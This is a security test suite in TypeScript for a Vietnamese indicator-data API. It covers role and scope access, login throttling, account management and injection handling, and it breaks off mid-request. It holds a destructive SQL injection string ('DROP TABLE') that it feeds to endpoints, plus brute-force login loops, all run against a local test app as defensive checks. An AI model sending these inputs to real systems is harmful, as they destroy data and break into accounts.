/**
 * Security, end to end through HTTP on the configured database: the role × endpoint × scope
 * matrix, lockout and throttling, accounts and grants, value history, injection, traversal,
 * oversized bodies, headers, CSRF, cookies and logout.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Fixture, startFixture } from '../test/fixture.js';
import { ADMIN_PASSWORD, DEMO_PASSWORD, startTestApp } from '../test/harness.js';

const json = (res: { body: string }) => JSON.parse(res.body);
let f: Fixture;
const H: Record<string, Record<string, string>> = {};
let seq = 0;
let ipSeq = 0;
/** Logs in from an address of its own (the login rate limit is per address). */
async function loginAs(username: string, password: string): Promise<Record<string, string>> {
  const res = await f.t.request({
    method: 'POST',
    url: '/api/auth/login',
    headers: { 'x-forwarded-for': `10.200.${ipSeq++ % 250}.${Math.floor(ipSeq / 250) + 1}` },
    payload: { username, password },
  });
  if (res.statusCode !== 200) throw new Error(`login ${username}: ${res.statusCode} ${res.body}`);
  return { cookie: `chiso_session=${res.cookies.find((c) => c.name === 'chiso_session')?.value}` };
}
const uniq = () => `${Date.now().toString(36)}${(seq++).toString(36)}`;

beforeAll(async () => {
  f = await startFixture({ bodyLimit: 1024 * 1024 });
  H.admin = f.admin;
  for (const u of ['lanhdao', 'sotttt', 'thuanan', 'dian', 'xem']) H[u] = await loginAs(u, DEMO_PASSWORD);
  H.anonymous = {};
  const tok = await f.t.request({
    method: 'POST',
    url: '/api/tokens',
    headers: f.admin,
    payload: { name: 'ro', scope: 'read' },
  });
  H.readToken = { authorization: `Bearer ${json(tok).token}` };
  const tw = await f.t.request({
    method: 'POST',
    url: '/api/tokens',
    headers: H.thuanan,
    payload: { name: 'rw', scope: 'write' },
  });
  H.reporterToken = { authorization: `Bearer ${json(tw).token}` };
}, 120_000);
afterAll(async () => f?.t.close());

const req = (
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  url: string,
  headers: Record<string, string>,
  payload?: unknown,
  contentType?: string,
) =>
  f.t.request({
    method,
    url,
    headers: contentType ? { ...headers, 'content-type': contentType } : headers,
    payload: payload as string,
  });

// ───────────────────────────── the matrix ─────────────────────────────

type Outcome = 'ok' | 401 | 403;
type Actor = 'admin' | 'lanhdao' | 'sotttt' | 'thuanan' | 'xem' | 'anonymous' | 'readToken' | 'reporterToken';
const ACTORS: Actor[] = [
  'admin',
  'lanhdao',
  'sotttt',
  'thuanan',
  'xem',
  'anonymous',
  'readToken',
  'reporterToken',
];
const PROVINCE_WIDE = new Set<Actor>(['admin', 'lanhdao', 'sotttt', 'xem', 'readToken']);
/** Scopes: the reporter's own district (Thuận An) and the neighbour's (Dĩ An). */
const SCOPES = {
  in: { district: '725', commune: '25978' },
  out: { district: '724', commune: '25942' },
} as const;

interface Case {
  name: string;
  method: 'GET' | 'POST' | 'PUT' | 'DELETE';
  url: (s: (typeof SCOPES)['in' | 'out']) => string;
  body?: (s: (typeof SCOPES)['in' | 'out']) => unknown;
  contentType?: string;
  /** who may do it, given whether the unit is inside the reporter's district */
  allowed: (a: Actor, inReporterScope: boolean) => boolean;
  scoped: boolean;
}

const loggedIn = (a: Actor) => a !== 'anonymous';
const canReadUnit = (a: Actor, inScope: boolean) =>
  PROVINCE_WIDE.has(a) || ((a === 'thuanan' || a === 'reporterToken') && inScope);
const canWriteUnit = (a: Actor, inScope: boolean) =>
  a === 'admin' || a === 'sotttt' || ((a === 'thuanan' || a === 'reporterToken') && inScope);
const isAdminUser = (a: Actor) => a === 'admin';

const CASES: Case[] = [
  { name: 'GET org-units', method: 'GET', url: () => '/api/org-units', allowed: loggedIn, scoped: false },
  {
    name: 'GET org-units/:code',
    method: 'GET',
    url: (s) => `/api/org-units/${s.district}`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET org-units/:code/geojson',
    method: 'GET',
    url: (s) => `/api/org-units/${s.district}/geojson`,
    allowed: canReadUnit,
    scoped: true,
  },
  { name: 'GET indicators', method: 'GET', url: () => '/api/indicators', allowed: loggedIn, scoped: false },
  {
    name: 'GET indicators/:code',
    method: 'GET',
    url: () => '/api/indicators/APPS',
    allowed: loggedIn,
    scoped: false,
  },
  { name: 'GET data-values', method: 'GET', url: () => '/api/data-values', allowed: loggedIn, scoped: false },
  {
    name: 'GET data-values?orgUnit',
    method: 'GET',
    url: (s) => `/api/data-values?orgUnit=${s.commune}`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET data-values/export',
    method: 'GET',
    url: (s) => `/api/data-values/export?orgUnit=${s.commune}`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET data-values/export xlsx',
    method: 'GET',
    url: (s) => `/api/data-values/export?orgUnit=${s.commune}&format=xlsx`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET data-values/history',
    method: 'GET',
    url: (s) => `/api/data-values/history?indicator=APPS&orgUnit=${s.commune}&period=2024M01`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET analytics',
    method: 'GET',
    url: (s) => `/api/analytics?indicator=APPS&orgUnit=${s.district}&period=2024M01`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET analytics level',
    method: 'GET',
    url: (s) => `/api/analytics?indicator=APPS&orgUnit=${s.district}&period=2024Q1&level=3`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET analytics/latest',
    method: 'GET',
    url: (s) => `/api/analytics/latest?orgUnit=${s.district}`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET analytics/trend',
    method: 'GET',
    url: (s) => `/api/analytics/trend?indicator=APPS&orgUnit=${s.district}&from=2024M01&to=2024M03`,
    allowed: canReadUnit,
    scoped: true,
  },
  {
    name: 'GET audit',
    method: 'GET',
    url: () => '/api/audit?limit=5',
    allowed: (a) => a === 'admin' || a === 'readToken',
    scoped: false,
  },
  {
    name: 'GET users',
    method: 'GET',
    url: () => '/api/users',
    allowed: (a) => a === 'admin' || a === 'readToken',
    scoped: false,
  },
  {
    name: 'GET users/:username',
    method: 'GET',
    url: () => '/api/users/thuanan',
    allowed: (a) => a === 'admin' || a === 'readToken',
    scoped: false,
  },
  { name: 'GET tokens', method: 'GET', url: () => '/api/tokens', allowed: loggedIn, scoped: false },
  { name: 'GET me', method: 'GET', url: () => '/api/me', allowed: loggedIn, scoped: false },
  {
    name: 'GET open/indicators',
    method: 'GET',
    url: () => '/api/open/indicators',
    allowed: () => true,
    scoped: false,
  },
  { name: 'GET health', method: 'GET', url: () => '/api/health', allowed: () => true, scoped: false },
  {
    name: 'POST data-values JSON',
    method: 'POST',
    url: () => '/api/data-values',
    body: (s) => ({
      values: [{ indicator: 'APPS', orgUnit: s.commune, period: '2023M12', value: 5 + seq++ }],
    }),
    allowed: canWriteUnit,
    scoped: true,
  },
  {
    name: 'POST data-values CSV',
    method: 'POST',
    url: () => '/api/data-values',
    body: (s) =>
      `indicator,org_unit,period,value,numerator,denominator\nAPPS,${s.commune},2023M11,${7 + seq++},,\n`,
    contentType: 'text/csv',
    allowed: canWriteUnit,
    scoped: true,
  },
  {
    name: 'POST org-units/import',
    method: 'POST',
    url: () => '/api/org-units/import',
    body: (s) =>
      `code,name,type,level,parent_code\n${s.district},${s.district === '725' ? 'Thuận An' : 'Dĩ An'},Thành phố,2,74\n`,
    contentType: 'text/csv',
    allowed: isAdminUser,
    scoped: true,
  },
  {
    name: 'POST indicators',
    method: 'POST',
    url: () => '/api/indicators',
    body: () => ({
      code: `M_${uniq()}`,
      name: 'Chỉ tiêu thử',
      valueType: 'count',
      pillar: 'government',
      frequency: 'year',
    }),
    allowed: (a) => a === 'admin' || a === 'sotttt',
    scoped: false,
  },
  {
    name: 'POST users',
    method: 'POST',
    url: () => '/api/users',
    body: (s) => ({
      username: `u_${uniq()}`,
      password: 'Long-enough-pass-42',
      grants: [{ role: 'viewer', orgUnit: s.district }],
    }),
    allowed: isAdminUser,
    scoped: true,
  },
  {
    name: 'POST users/:u/grants',
    method: 'POST',
    url: () => '/api/users/xem/grants',
    body: (s) => ({ role: 'viewer', orgUnit: s.commune }),
    allowed: isAdminUser,
    scoped: true,
  },
  {
    name: 'PUT users/:u',
    method: 'PUT',
    url: () => '/api/users/xem',
    body: () => ({ email: 'xem@example.vn' }),
    allowed: isAdminUser,
    scoped: false,
  },
  {
    name: 'POST users/:u/password',
    method: 'POST',
    url: () => '/api/users/lanhdao-nobody/password',
    body: () => ({ password: 'Another-good-pass-77' }),
    // allowed → 404 (no such user): the rights check comes first
    allowed: isAdminUser,
    scoped: false,
  },
  {
    name: 'POST tokens',
    method: 'POST',
    url: () => '/api/tokens',
    body: () => ({ name: 'm', scope: 'read' }),
    allowed: (a) => loggedIn(a) && a !== 'readToken' && a !== 'reporterToken',
    scoped: false,
  },
  {
    name: 'POST indicators/:code/publish',
    method: 'POST',
    url: () => '/api/indicators/TEAMS/publish',
    body: () => ({ published: false }),
    allowed: isAdminUser,
    scoped: false,
  },
];

function outcomeOf(res: LightMyRequestResponse): Outcome | number {
  if (res.statusCode === 401 || res.statusCode === 403) return res.statusCode;
  if (res.statusCode < 300 || res.statusCode === 404) return 'ok';
  return res.statusCode;
}

describe('role × endpoint × scope matrix', () => {
  it('allows exactly what each role may do and refuses the rest with 401/403', async () => {
    const failures: string[] = [];
    let n = 0;
    for (const c of CASES) {
      for (const scope of c.scoped ? (['in', 'out'] as const) : (['in'] as const)) {
        for (const a of ACTORS) {
          const s = SCOPES[scope];
          const body = c.body?.(s);
          const res = await req(c.method, c.url(s), H[a], body, c.contentType);
          n++;
          const expected: Outcome = c.allowed(a, scope === 'in') ? 'ok' : a === 'anonymous' ? 401 : 403;
          const got = outcomeOf(res);
          if (got !== expected)
            failures.push(
              `${c.name} [${scope}] as ${a}: expected ${expected}, got ${res.statusCode} ${res.body.slice(0, 160)}`,
            );
          if (res.statusCode >= 500)
            failures.push(`${c.name} [${scope}] as ${a}: 5xx ${res.body.slice(0, 160)}`);
        }
      }
    }
    console.log(
      `role × endpoint matrix: ${n} cases (${CASES.length} endpoints × scopes × ${ACTORS.length} callers), ${failures.length} failures`,
    );
    expect(failures).toEqual([]);
  }, 120_000);

  it('the Thuận An reporter sees no Dĩ An rows in any list or export', async () => {
    const dianCodes = new Set(['724', '25942', '25945']);
    const units = json(await req('GET', '/api/org-units?limit=1000', H.thuanan));
    expect(units.items.map((u: { code: string }) => u.code).sort()).toEqual(['25978', '25987', '725']);
    expect(units.total).toBe(3);
    const byParent = json(await req('GET', '/api/org-units?parent=74', H.thuanan));
    expect(byParent.items.map((u: { code: string }) => u.code)).toEqual(['725']);
    const search = json(await req('GET', `/api/org-units?q=${encodeURIComponent('dĩ an')}`, H.thuanan));
    expect(search.total).toBe(0);
    const values = json(await req('GET', '/api/data-values?limit=10000', H.thuanan));
    expect(values.items.length).toBeGreaterThan(0);
    expect(values.items.filter((v: { orgUnit: string }) => dianCodes.has(v.orgUnit))).toEqual([]);
    const byIndicator = json(await req('GET', '/api/data-values?indicator=APPS&limit=10000', H.thuanan));
    expect(
      byIndicator.items.every((v: { orgUnit: string }) => ['25978', '25987', '725'].includes(v.orgUnit)),
    ).toBe(true);
    const csv = (await req('GET', '/api/data-values/export?indicator=APPS', H.thuanan)).body;
    expect(csv).toContain('25978');
    for (const c of dianCodes) expect(csv).not.toMatch(new RegExp(`,${c},`));
    const unit = json(await req('GET', '/api/org-units/725', H.thuanan));
    expect(unit.ancestors).toEqual([]); // the province is not the reporter's to read
    expect(unit.children.map((c: { code: string }) => c.code).sort()).toEqual(['25978', '25987']);
    // a list that names a Dĩ An unit among others is refused as a whole
    expect((await req('GET', '/api/data-values?orgUnit=25978,25942', H.thuanan)).statusCode).toBe(403);
    expect(
      (await req('GET', '/api/analytics?indicator=APPS&orgUnit=725,724&period=2024M01', H.thuanan))
        .statusCode,
    ).toBe(403);
    // the write is refused as a whole and names the unit; nothing is written
    const mixed = await req('POST', '/api/data-values', H.thuanan, {
      values: [
        { indicator: 'APPS', orgUnit: '25978', period: '2022M01', value: 1 },
        { indicator: 'APPS', orgUnit: '25942', period: '2022M01', value: 1 },
      ],
    });
    expect(mixed.statusCode).toBe(403);
    expect(json(mixed).errors.map((e: { row: number; field: string }) => [e.row, e.field])).toEqual([
      [2, 'orgUnit'],
    ]);
    expect(json(await req('GET', '/api/data-values?period=2022M01', H.admin)).total).toBe(0);
  });

  it('the province-wide viewer reads both districts but cannot write anywhere', async () => {
    const units = json(await req('GET', '/api/org-units?limit=1000', H.xem));
    expect(units.total).toBe(7);
    const w = await req('POST', '/api/data-values', H.xem, {
      values: [{ indicator: 'APPS', orgUnit: '25978', period: '2022M02', value: 1 }],
    });
    expect(w.statusCode).toBe(403);
  });
});

// ───────────────────────────── lockout ─────────────────────────────

describe('login throttling and lockout', () => {
  const ip = (n: number) => ({ 'x-forwarded-for': `10.9.${n}.1` });
  const login = (username: string, password: string, n = 1) =>
    f.t.request({ method: 'POST', url: '/api/auth/login', headers: ip(n), payload: { username, password } });

  const cookieOf = (res: LightMyRequestResponse, name: string) =>
    res.cookies.find((c) => c.name === name)?.value;

  it('slows a guessing address down (429 with Retry-After), without locking the real user out elsewhere', async () => {
    await req('POST', '/api/users', H.admin, { username: 'khoa', password: 'Pass-for-k-123' });
    const statuses: number[] = [];
    for (let i = 0; i < 5; i++) statuses.push((await login('khoa', `wrong-${i}`)).statusCode);
    // four free failures; the fifth makes this address wait
    expect(statuses).toEqual([401, 401, 401, 401, 401]);
    const waiting = await login('khoa', 'Pass-for-k-123');
    expect(waiting.statusCode).toBe(429);
    expect(json(waiting).error.code).toBe('login_throttled');
    expect(json(waiting).error.message).toMatch(/thử lại sau \d+ giây/i);
    expect(Number(waiting.headers['retry-after'])).toBeGreaterThan(0);
    expect(cookieOf(waiting, 'chiso_session')).toBeUndefined();
    const en = await f.t.request({
      method: 'POST',
      url: '/api/auth/login',
      headers: { ...ip(1), 'accept-language': 'en' },
      payload: { username: 'khoa', password: 'x' },
    });
    expect(json(en).error.message).toMatch(/Try again in \d+ seconds/);
    // the real user, from another address, is not affected
    expect((await login('khoa', 'Pass-for-k-123', 7)).statusCode).toBe(200);
    // the wait runs out (moved into the past): the right password works from the first address too
    await sql`UPDATE login_throttle SET blocked_until = now() - interval '1 second'`.execute(f.t.database.db);
    expect((await login('khoa', 'Pass-for-k-123')).statusCode).toBe(200);
    // a success forgets that address's failures
    const left = await f.t.database.db
      .selectFrom('login_throttle')
      .select('failures')
      .where('account_key', '=', 'khoa')
      .where('address', '=', '10.9.1.1')
      .execute();
    expect(left).toEqual([]);
  });

  it('an unknown username gets exactly the answers a real one gets (no enumeration)', async () => {
    await req('POST', '/api/users', H.admin, { username: 'thatexists', password: 'Pass-for-t-123' });
    const run = async (username: string, n: number) => {
      const out: string[] = [];
      for (let i = 0; i < 6; i++) {
        const r = await login(username, `wrong-${i}`, n);
        out.push(`${r.statusCode} ${json(r).error.code}`);
      }
      return out;
    };
    const real = await run('thatexists', 11);
    const ghost = await run('doesnotexist', 12);
    expect(ghost).toEqual(real);
    expect(real).toContain('429 login_throttled');
  });

  it('an attack from many addresses cannot lock the real user out of a browser that logged in before', async () => {
    await req('POST', '/api/users', H.admin, { username: 'victim', password: 'Pass-for-v-123' });
    // the real user logged in once from this browser: it carries a device cookie
    const first = await login('victim', 'Pass-for-v-123', 20);
    expect(first.statusCode).toBe(200);
    const device = cookieOf(first, 'chiso_device');
    expect(device).toBeTruthy();
    expect(first.cookies.find((c) => c.name === 'chiso_device')?.httpOnly).toBe(true);
    // 20 failures from 20 addresses: each address only once, so no address is slowed down …
    for (let i = 0; i < 20; i++) expect((await login('victim', `guess-${i}`, 100 + i)).statusCode).toBe(401);
    // … but the account now accepts only browsers it knows: a stranger (even with the password) waits
    const stranger = await login('victim', 'Pass-for-v-123', 200);
    expect(stranger.statusCode).toBe(429);
    expect(json(stranger).error.code).toBe('login_throttled');
    expect(json(await req('GET', '/api/users/victim', H.admin)).locked).toBe(true);
    // the real user's browser, with the right password, still gets in
    const own = await f.t.request({
      method: 'POST',
      url: '/api/auth/login',
      headers: { ...ip(201), cookie: `chiso_device=${device}` },
      payload: { username: 'victim', password: 'Pass-for-v-123' },
    });
    expect(own.statusCode).toBe(200);
    // a device cookie of another account does not help
    const other = await f.t.request({
      method: 'POST',
      url: '/api/auth/login',
      headers: { ...ip(202), cookie: `chiso_device=${device}` },
      payload: { username: 'khoa', password: 'Pass-for-k-123' },
    });
    expect(other.statusCode).toBe(200); // khoa is not under attack: a normal login
    // the admin account is protected the same way: a stranger cannot keep the admin out of its own browser
    for (let i = 0; i < 25; i++) await login('admin', `guess-${i}`, 300 + i);
    expect((await login('admin', 'wrong', 230)).statusCode).toBe(429);
    await sql`DELETE FROM login_throttle WHERE account_key = 'admin'`.execute(f.t.database.db);
  });

  it('a success resets the failure counter', async () => {
    await req('POST', '/api/users', H.admin, { username: 'reset1', password: 'Pass-for-r-123' });
    for (let round = 0; round < 3; round++) {
      for (let i = 0; i < 3; i++) expect((await login('reset1', 'nope', 2)).statusCode).toBe(401);
      expect((await login('reset1', 'Pass-for-r-123', 2)).statusCode).toBe(200);
    }
  });

  it('an admin password reset clears the counters', async () => {
    await req('POST', '/api/users', H.admin, { username: 'reset2', password: 'Pass-for-r-123' });
    for (let i = 0; i < 5; i++) await login('reset2', 'nope', 3);
    expect((await login('reset2', 'Pass-for-r-123', 3)).statusCode).toBe(429);
    expect(
      (await req('POST', '/api/users/reset2/password', H.admin, { password: 'Fresh-password-456' }))
        .statusCode,
    ).toBe(200);
    expect((await login('reset2', 'Fresh-password-456', 3)).statusCode).toBe(200);
  });

  it('rate-limits /api/auth/login per client address with 429', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 25; i++) statuses.push((await login(`ghost${i}`, 'whatever', 99)).statusCode);
    expect(statuses.slice(0, 20).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(20).every((s) => s === 429)).toBe(true);
    const r = await login('ghost', 'whatever', 99);
    expect(json(r).error.code).toBe('too_many_requests');
    // another address is not affected
    expect((await login('ghost', 'whatever', 98)).statusCode).toBe(401);
  });

  it('unknown users, disabled users and wrong passwords look the same (401 login_failed)', async () => {
    await req('POST', '/api/users', H.admin, {
      username: 'offuser',
      password: 'Pass-for-o-123',
      disabled: true,
    });
    for (const [u, p] of [
      ['nobody-here', 'x'],
      ['offuser', 'Pass-for-o-123'],
      ['admin', 'wrong'],
    ]) {
      const r = await login(u, p, 4);
      expect(r.statusCode).toBe(401);
      expect(json(r).error.code).toBe('login_failed');
    }
  });
});

// ───────────────────────────── accounts ─────────────────────────────

describe('users and grants API', () => {
  it('creates, reads, changes and lists users without ever exposing a password hash', async () => {
    const c = await req('POST', '/api/users', H.admin, {
      username: 'canbo1',
      displayName: 'Cán bộ 1',
      email: 'cb1@binhduong.gov.vn',
      password: 'Pass-for-cb-1',
      homeUnit: '725',
      grants: [{ role: 'reporter', orgUnit: '25978' }],
    });
    expect(c.statusCode, c.body).toBe(201);
    expect(json(c)).toMatchObject({
      username: 'canbo1',
      displayName: 'Cán bộ 1',
      homeUnit: '725',
      isAdmin: false,
      disabled: false,
      grants: [{ role: 'reporter', orgUnit: '25978', orgUnitName: 'Lái Thiêu' }],
    });
    expect(
      (await req('POST', '/api/users', H.admin, { username: 'canbo1', password: 'Pass-for-cb-1' }))
        .statusCode,
    ).toBe(409);
    const p = await req('PUT', '/api/users/canbo1', H.admin, { displayName: 'Cán bộ Một', homeUnit: '724' });
    expect(json(p)).toMatchObject({ displayName: 'Cán bộ Một', homeUnit: '724' });
    const list = json(await req('GET', '/api/users?q=canbo', H.admin));
    expect(list.items.map((u: { username: string }) => u.username)).toEqual(['canbo1']);
    const audit = json(await req('GET', '/api/audit?entity=user&key=canbo1', H.admin));
    expect(audit.items.map((i: { action: string }) => i.action)).toEqual(['update', 'create']);
    expect(audit.items[0].before).toMatchObject({ displayName: 'Cán bộ 1', homeUnit: '725' });
    expect(audit.items[0].after).toMatchObject({ displayName: 'Cán bộ Một', homeUnit: '724' });
    const everything =
      JSON.stringify(json(await req('GET', '/api/audit?limit=1000', H.admin))) + JSON.stringify(list);
    expect(everything).not.toMatch(/argon2|password_hash|passwordHash|Pass-for-cb-1/);
  });

  it('refuses weak passwords naming every rule, in Vietnamese and English', async () => {
    const vi = await req('POST', '/api/users', H.admin, { username: 'weak1', password: 'short' });
    expect(vi.statusCode).toBe(400);
    expect(json(vi).error.code).toBe('weak_password');
    expect(json(vi).error.message).toMatch(/ít nhất 10 ký tự/);
    expect(json(vi).error.details.map((d: { rule: string }) => d.rule)).toEqual([
      'min_length_10',
      'letters_and_digits',
    ]);
    const en = await f.t.request({
      method: 'POST',
      url: '/api/users',
      headers: { ...H.admin, 'accept-language': 'en' },
      payload: { username: 'weak1', password: 'weak1-and-more-9' },
    });
    expect(json(en).error.message).toMatch(/must not contain the username/);
    const common = await req('POST', '/api/users', H.admin, { username: 'weak2', password: 'password123' });
    expect(json(common).error.details.map((d: { rule: string }) => d.rule)).toEqual(['too_common']);
    expect((await req('GET', '/api/users/weak1', H.admin)).statusCode).toBe(404);
    expect(
      (await req('POST', '/api/users', H.admin, { username: 'bad name!', password: 'Good-password-1' }))
        .statusCode,
    ).toBe(400);
  });

  it('grants and withdraws roles, which take effect on the next request', async () => {
    await req('POST', '/api/users', H.admin, { username: 'grantee', password: 'Pass-for-g-123' });
    const h = await loginAs('grantee', 'Pass-for-g-123');
    expect((await req('GET', '/api/org-units/724', h)).statusCode).toBe(403);
    const g = await req('POST', '/api/users/grantee/grants', H.admin, { role: 'viewer', orgUnit: '724' });
    expect(g.statusCode).toBe(201);
    expect(
      (await req('POST', '/api/users/grantee/grants', H.admin, { role: 'viewer', orgUnit: '724' }))
        .statusCode,
    ).toBe(200);
    expect((await req('GET', '/api/org-units/724', h)).statusCode).toBe(200);
    expect(
      (await req('POST', '/api/users/grantee/grants', H.admin, { role: 'boss', orgUnit: '724' })).statusCode,
    ).toBe(400);
    expect(
      (await req('POST', '/api/users/grantee/grants', H.admin, { role: 'viewer', orgUnit: 'NOPE' }))
        .statusCode,
    ).toBe(400);
    const del = await req('DELETE', `/api/users/grantee/grants/${json(g).id}`, H.admin);
    expect(del.statusCode).toBe(200);
    expect((await req('DELETE', `/api/users/grantee/grants/${json(g).id}`, H.admin)).statusCode).toBe(404);
    expect((await req('GET', '/api/org-units/724', h)).statusCode).toBe(403);
    const audit = json(await req('GET', '/api/audit?entity=user&key=grantee', H.admin));
    expect(audit.items.map((i: { action: string }) => i.action)).toEqual(['revoke_grant', 'grant', 'create']);
    expect(audit.items[0].before.grants).toHaveLength(1);
    expect(audit.items[0].after.grants).toHaveLength(0);
  });

  it('disabling a user ends their sessions and stops their tokens', async () => {
    await req('POST', '/api/users', H.admin, {
      username: 'leaver',
      password: 'Pass-for-l-123',
      grants: [{ role: 'viewer', orgUnit: '74' }],
    });
    const h = await loginAs('leaver', 'Pass-for-l-123');
    const tok = json(await req('POST', '/api/tokens', h, { name: 't' })).token;
    expect((await req('GET', '/api/me', h)).statusCode).toBe(200);
    expect(json(await req('PUT', '/api/users/leaver', H.admin, { disabled: true })).disabled).toBe(true);
    expect((await req('GET', '/api/me', h)).statusCode).toBe(401);
    expect((await req('GET', '/api/me', { authorization: `Bearer ${tok}` })).statusCode).toBe(401);
    expect(
      (
        await f.t.request({
          method: 'POST',
          url: '/api/auth/login',
          payload: { username: 'leaver', password: 'Pass-for-l-123' },
        })
      ).statusCode,
    ).toBe(401);
    await req('PUT', '/api/users/leaver', H.admin, { disabled: false });
    expect((await loginAs('leaver', 'Pass-for-l-123')).cookie).toMatch(/chiso_session=/);
  });

  it('an admin reset ends every session of the user; the old password stops working', async () => {
    await req('POST', '/api/users', H.admin, { username: 'forgot', password: 'Pass-for-f-123' });
    const a = await loginAs('forgot', 'Pass-for-f-123');
    const b = await loginAs('forgot', 'Pass-for-f-123');
    expect((await req('POST', '/api/users/forgot/password', H.admin, { password: 'weak' })).statusCode).toBe(
      400,
    );
    expect(
      (await req('POST', '/api/users/forgot/password', H.admin, { password: 'Brand-new-pass-9' })).statusCode,
    ).toBe(200);
    expect((await req('GET', '/api/me', a)).statusCode).toBe(401);
    expect((await req('GET', '/api/me', b)).statusCode).toBe(401);
    await expect(loginAs('forgot', 'Pass-for-f-123')).rejects.toThrow(/401/);
    await loginAs('forgot', 'Brand-new-pass-9');
    const audit = json(await req('GET', '/api/audit?entity=user&key=forgot', H.admin));
    expect(audit.items[0].action).toBe('reset_password');
    expect(JSON.stringify(audit.items[0])).not.toMatch(/Brand-new|argon/);
  });

  it('changing one’s own password needs the current one and ends the other sessions', async () => {
    await req('POST', '/api/users', H.admin, { username: 'self1', password: 'Self-pass-1234' });
    const a = await loginAs('self1', 'Self-pass-1234');
    const b = await loginAs('self1', 'Self-pass-1234');
    const wrong = await req('POST', '/api/me/password', a, {
      currentPassword: 'nope',
      newPassword: 'Self-pass-5678',
    });
    expect(wrong.statusCode).toBe(400);
    expect(json(wrong).error.code).toBe('wrong_password');
    expect(
      (await req('POST', '/api/me/password', a, { currentPassword: 'Self-pass-1234', newPassword: 'short' }))
        .statusCode,
    ).toBe(400);
    expect(
      (
        await req('POST', '/api/me/password', a, {
          currentPassword: 'Self-pass-1234',
          newPassword: 'Self-pass-5678',
        })
      ).statusCode,
    ).toBe(200);
    expect((await req('GET', '/api/me', a)).statusCode).toBe(200);
    expect((await req('GET', '/api/me', b)).statusCode).toBe(401);
    await loginAs('self1', 'Self-pass-5678');
    // with a token: refused
    expect(
      (
        await req('POST', '/api/me/password', H.readToken, {
          currentPassword: ADMIN_PASSWORD,
          newPassword: 'Whatever-pass-1',
        })
      ).statusCode,
    ).toBe(403);
  });

  it('an admin cannot lock themselves out', async () => {
    expect((await req('PUT', '/api/users/admin', H.admin, { disabled: true })).statusCode).toBe(409);
    expect((await req('PUT', '/api/users/admin', H.admin, { isAdmin: false })).statusCode).toBe(409);
    expect((await req('PUT', '/api/users/admin', H.admin, { password_hash: 'x' })).statusCode).toBe(400);
  });
});

// ───────────────────────────── value history ─────────────────────────────

describe('value history', () => {
  it('tells who changed one number, when, before and after; only to those who may read the unit', async () => {
    const put = (h: Record<string, string>, value: number) =>
      req('POST', '/api/data-values', h, {
        values: [{ indicator: 'APPS', orgUnit: '25987', period: '2021M06', value }],
      });
    expect((await put(H.thuanan, 10)).statusCode).toBe(200);
    expect((await put(H.sotttt, 12)).statusCode).toBe(200);
    expect((await put(H.thuanan, 15)).statusCode).toBe(200);
    const r = await req(
      'GET',
      '/api/data-values/history?indicator=APPS&orgUnit=25987&period=2021M06',
      H.lanhdao,
    );
    expect(r.statusCode, r.body).toBe(200);
    const h = json(r);
    expect(h.current[0]).toMatchObject({ value: 15, createdBy: 'thuanan', updatedBy: 'thuanan' });
    expect(
      h.items.map((i: { user: string; before: { value: number; by: string }; after: { value: number } }) => [
        i.user,
        i.before.value,
        i.before.by,
        i.after.value,
      ]),
    ).toEqual([
      ['thuanan', 12, 'sotttt', 15],
      ['sotttt', 10, 'thuanan', 12],
    ]);
    expect(
      (await req('GET', '/api/data-values/history?indicator=APPS&orgUnit=25987&period=2021M06', H.dian))
        .statusCode,
    ).toBe(403);
    expect(
      (await req('GET', '/api/data-values/history?indicator=APPS&orgUnit=25987&period=2021M06', H.anonymous))
        .statusCode,
    ).toBe(401);
    expect(
      (await req('GET', '/api/data-values/history?indicator=NOPE&orgUnit=25987&period=2021M06', H.admin))
        .statusCode,
    ).toBe(404);
    expect(
      (await req('GET', '/api/data-values/history?indicator=APPS&orgUnit=25987&period=21M6', H.admin))
        .statusCode,
    ).toBe(400);
    expect(
      (await req('GET', '/api/data-values/history?indicator=APPS&orgUnit=25987', H.admin)).statusCode,
    ).toBe(400);
  });
});

// ───────────────────────────── injection and traversal ─────────────────────────────

describe('injection, traversal and oversized bodies', () => {
  const DROP = "'; DROP TABLE data_value; --";
  it('SQL in codes and query strings is data, never SQL', async () => {
    const before = json(await req('GET', '/api/data-values?limit=1', H.admin)).total;
    const urls = [
      `/api/org-units/${encodeURIComponent(DROP)}`,
      `/api/org-units?q=${encodeURIComponent(DROP)}`,
      `/api/org-units?parent=${encodeURIComponent(DROP)}`,
      `/api/indicators?q=${encodeURIComponent(DROP)}`,
      `/api/indicators/${encodeURIComponent(DROP)}`,
      `/api/data-values?indicator=${encodeURIComponent(DROP)}&orgUnit=${encodeURIComponent(DROP)}`,
      `/api/data-values/export?indicator=${encodeURIComponent(DROP)}`,
      `/api/data-values/history?indicator=${encodeURIComponent(DROP)}&orgUnit=25978&period=2024M01`,
      `/api/analytics?indicator=${encodeURIComponent(DROP)}&orgUnit=74&period=2024`,
      `/api/analytics?indicator=APPS&orgUnit=${encodeURIComponent(DROP)}&period=2024`,
      `/api/analytics?indicator=APPS&orgUnit=74&period=${encodeURIComponent(DROP)}`,
      `/api/audit?user=${encodeURIComponent(DROP)}&entity=${encodeURIComponent(DROP)}`,
      `/api/users?q=${encodeURIComponent(DROP)}`,
      `/api/users/${encodeURIComponent(DROP)}`,
      `/api/open/indicators/${encodeURIComponent(DROP)}/data.csv`,
    ];
    for (const url of urls) {
      const r = await req('GET', url, H.admin);
      expect(r.statusCode, `${url} ${r.body}`).toBeLessThan(500);
    }
    const w = await req('POST', '/api/data-values', H.admin, {
      values: [{ indicator: DROP, orgUnit: DROP, period: DROP, value: DROP, comment: DROP }],
    });
    expect(w.statusCode).toBe(422);
    const csv = await req(
      'POST',
      '/api/data-values',
      H.admin,
